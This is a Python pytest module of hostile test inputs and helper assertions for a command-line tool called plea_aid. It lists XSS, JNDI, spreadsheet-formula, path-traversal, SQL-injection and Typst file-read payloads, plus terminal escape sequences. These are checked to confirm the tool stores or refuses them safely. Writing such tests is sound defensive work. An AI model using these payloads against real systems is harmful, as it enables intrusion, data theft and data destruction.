"""What someone who means harm types, and how to see that nothing came of it."""

from __future__ import annotations

import io
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest

from plea_aid import cli

CANARY = "CANARY-7f3a"
"""Stands in a file that nothing may read."""
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "![x](http://192.0.2.1/a)",
    "$$\\input{/etc/passwd}$$",
    ":red[x] :material/home:",
    "[bold red]x[/bold red]",
    "[/x]",
    "[link=http://192.0.2.1]x[/]",
    "{{7*7}} ${jndi:ldap://192.0.2.1/a} %s%n%x",
    "&lt;b&gt; &#0;",
)
FORMULAS = (
    '=HYPERLINK("http://192.0.2.1","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'x'!A0",
    "\t=1+1",
    " =1+1",
    '=1+1";=1+1',
)
PATHS = (
    "../../../../etc/passwd",
    "/etc/passwd",
    "..\\..\\x",
    "C:\\x",
    "con",
    "~root",
    "file:///etc/passwd",
    "x/../y",
    "|x",
)
SQL = (
    "'; DROP TABLE case_file;--",
    "' OR '1'='1",
    '") UNION SELECT password_hash FROM user_account--',
    "%_\\",
    ":x $1",
)
TYPST = (
    '#read("/etc/passwd")',
    '#eval("1+1")',
    '#import "@preview/cetz:0.3.4"',
    '#include "internal.typ"',
    "$ sqrt(2) $",
    '#image("/etc/passwd")',
    "*b* _i_ `c` = h",
    "// gone",
    "#{let x = 1; x}",
    "\\u{202e} \\ #sys.inputs",
    "@ref <label>",
)
UNICODE = (
    "e\u0301 ﬃ Å Å",
    "\u200b\u200c\u200d\ufeff\u2060",
    "İıſßŒ",
    "𝐮𝐧𝐝𝐨𝐜",
    "🏳️‍🌈👩‍👩‍👧",
    "ﷺ" * 20,
    "a" + "\u0300" * 300,
    "שלום مرحبا",
    "\u061c\u200e\u200f",
    "\u2028\u2029",
    "\U000e0041\U0010ffff",
    "\ufdd0",
)
WORDS = (*MARKUP, *FORMULAS, *PATHS, *SQL, *TYPST, *UNICODE, "9" * 400, "NaN", "-1e999", "A" * 30_000)
"""Texts that are words all the same: stored as typed, or refused for their length or form."""
HIDDEN = (
    "\x00",
    "a\x00b",
    "\x1b[31mred\x1b]0;t\x07",
    "\ud800",
    "x\udfff",
    "a\u202eb",
    "\u2066x\u2069",
    "\x9b31m",
    "\x08\x7f",
    "\ufffe",
)
"""Texts with signs that no one types: refused, whatever they are for."""
LINES = ("x\r\nadmin: session.open done", "x\ny", "x\u2028y", "x\x85y")
"""Texts that would be several lines where one stands."""


@dataclass(frozen=True)
class Said:
    """What a command printed, and its exit code."""

    code: int
    out: str
    err: str


def command(monkeypatch: pytest.MonkeyPatch, *words: str, given: bytes = b"") -> Said:
    """Run the command line in this process, its output encoded as a pipe would."""
    out, err = (io.TextIOWrapper(io.BytesIO(), encoding="utf-8", newline="") for _ in range(2))
    with monkeypatch.context() as patch:
        patch.setattr(sys, "argv", ["plea-aid", *words])
        patch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(given)))
        patch.setattr(sys, "stdout", out)
        patch.setattr(sys, "stderr", err)
        try:
            cli.main()
            code: Any = 0
        except SystemExit as end:
            code = end.code or 0
        for stream in (out, err):
            stream.flush()
    shown = [stream.buffer.getvalue().decode("utf-8") for stream in (out, err)]  # type: ignore[attr-defined]
    return Said(code, *shown)


def assert_plain(said: Said, *, codes: tuple[int, ...] = (0, 2)) -> None:
    """Nothing broke, nothing moves the terminal, and what is wrong stands in some short lines."""
    assert said.code in codes, said
    assert "Traceback" not in said.err, said.err
    assert "something went wrong" not in said.err, said.err
    assert CANARY not in said.out + said.err
    assert not list(moving(said.out + said.err)), (said, list(moving(said.out + said.err)))
    lines = said.err.splitlines()
    assert len(lines) <= 21, said.err
    assert all(len(line) < 1_000 for line in lines)
    assert bool(lines) == (said.code != 0), said


TURNING = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def moving(text: str) -> Iterator[str]:
    """Find the signs that a terminal obeys, or that turn the direction of what follows."""
    for sign in text:
        if sign != "\n" and (sign < " " or "\x7f" <= sign < "\xa0" or sign in TURNING):
            yield repr(sign)
